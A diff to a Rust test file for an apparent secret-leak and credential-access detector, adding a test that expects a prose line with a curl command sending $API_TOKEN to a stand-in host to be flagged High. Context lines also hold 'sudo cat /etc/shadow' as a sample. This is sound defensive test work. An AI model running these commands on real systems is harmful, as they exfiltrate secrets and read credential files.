@@ -190,6 +190,14 @@ fn ignores_credentials_attached_to_short_auth_flags() {
 }
 
 #[test]
+fn only_the_offending_text_decides_whether_a_quoted_sender_is_explained() {
+    // The variable is not alone in its span, and no lead-in explains the
+    // line: a command in prose is asked for, whatever follows its span.
+    let prose = "The nightly job ran `curl -s https://x.example/p?t=$API_TOKEN` every night.";
+    assert_severity(prose, "exfil.secret-variable", High);
+}
+
+#[test]
 fn grades_secret_paths_by_use() {
     assert_severity("chmod 600 ~/.ssh/id_ed25519", "cred.secret-file", Low);
     assert_severity("sudo cat /etc/shadow", "cred.secret-file", High);
